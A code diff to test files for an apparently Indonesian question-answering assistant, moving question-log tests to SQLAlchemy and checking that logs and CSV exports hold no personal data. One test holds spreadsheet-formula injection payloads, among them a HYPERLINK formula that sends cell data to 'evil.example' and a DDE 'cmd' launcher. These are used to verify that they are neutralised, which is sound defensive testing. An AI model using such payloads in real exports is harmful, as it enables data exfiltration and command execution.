@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import sqlite3
 import unicodedata
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
@@ -13,6 +12,8 @@ from pathlib import Path
 import pytest
 from gradio_client import Client
 from langchain_core.language_models.fake_chat_models import FakeListChatModel
+from sqlalchemy import create_engine, select, update
+from sqlalchemy.pool import NullPool
 
 from assistant.answer.schema import Answer, Source
 from assistant.errors import AdminRefused
@@ -20,7 +21,7 @@ from assistant.indexing.build import build_index
 from assistant.service import Assistant, StaleIndex
 from assistant.settings import Settings
 from assistant.web.context import ADMIN_FREE_FAILURES, ADMIN_LOCKOUT_FAILURES, AdminGate
-from assistant.web.questionlog import QuestionLog
+from assistant.web.questionlog import QUESTIONS, QuestionLog
 from assistant.web.render import answer_markdown, plain, safe_markdown, sources_markdown
 
 from ..documents_factory import write_markdown
@@ -86,14 +87,17 @@ def test_admin_sign_in_slows_down_then_locks_out(assistant: Assistant, tmp_path:
     gate.check("10.1.1.2", now=0.0)
 
 
-def test_retention_deletes_old_entries(tmp_path: Path) -> None:
-    log = QuestionLog(tmp_path / "log.sqlite")
+def test_retention_deletes_old_entries(log_target: str | Path) -> None:
+    log = QuestionLog(log_target)
     for _ in range(3):
         log.record(Answer(question="KK hilang", status="answered", text="x [1]"), "warga")
     assert log.flush()
     old = (datetime.now(timezone.utc) - timedelta(days=200)).isoformat(timespec="seconds")
-    with sqlite3.connect(tmp_path / "log.sqlite") as db:
-        db.execute("UPDATE questions SET asked_at = ? WHERE id IN (1, 2)", (old,))
+    engine = create_engine(log.url, poolclass=NullPool)
+    with engine.begin() as db:
+        first_two = db.execute(select(QUESTIONS.c.id).order_by(QUESTIONS.c.id).limit(2)).scalars().all()
+        db.execute(update(QUESTIONS).where(QUESTIONS.c.id.in_(first_two)).values(asked_at=old))
+    engine.dispose()
     assert log.purge_older_than(180) == 2
     assert log.feedback_summary()["questions"] == 1
 
@@ -119,15 +123,26 @@ def _digits(data: bytes) -> str:
     return "".join(ch for ch in unicodedata.normalize("NFKC", text) if ch.isdigit())
 
 
-def test_log_and_export_hold_no_personal_data(tmp_path: Path, assistant: Assistant) -> None:
-    path = tmp_path / "log.sqlite"
-    log = QuestionLog(path)
+def _stored(log: QuestionLog, folder: Path) -> bytes:
+    """Everything the log keeps: every file of a SQLite log (database and WAL), or every row of a server's."""
+    if log.url.startswith("sqlite"):
+        return b"".join(p.read_bytes() for p in folder.iterdir())
+    engine = create_engine(log.url, poolclass=NullPool)
+    with engine.connect() as db:
+        rows = db.execute(select(QUESTIONS)).all()
+    engine.dispose()
+    return repr(rows).encode()
+
+
+def test_log_and_export_hold_no_personal_data(tmp_path: Path, log_target: str | Path, assistant: Assistant) -> None:
+    log = QuestionLog(log_target)
     for question, _ in DISGUISES.values():
         answer = assistant.ask(question)
         token = log.record(answer, "warga")
         assert log.flush() and log.feedback(str(token), 1, f"komentar {question}")
     export = log.export_csv()
-    raw = b"".join(p.read_bytes() for p in tmp_path.iterdir())
+    raw = _stored(log, tmp_path)
+    assert len(list(csv.reader(io.StringIO(export)))) == len(DISGUISES) + 1
     for name, (_question, secret) in DISGUISES.items():
         if secret.isdigit():
             assert secret not in _digits(raw) and secret not in _digits(export.encode()), name
@@ -135,8 +150,8 @@ def test_log_and_export_hold_no_personal_data(tmp_path: Path, assistant: Assista
             assert secret.encode() not in raw and secret not in export, name
 
 
-def test_exports_neutralise_spreadsheet_formulas(tmp_path: Path) -> None:
-    log = QuestionLog(tmp_path / "log.sqlite")
+def test_exports_neutralise_spreadsheet_formulas(log_target: str | Path) -> None:
+    log = QuestionLog(log_target)
     payloads = ['=HYPERLINK("http://evil.example/?d="&E2,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
     for payload in payloads:
         token = log.record(Answer(question=payload, status="answered", text="x [1]"), "warga")
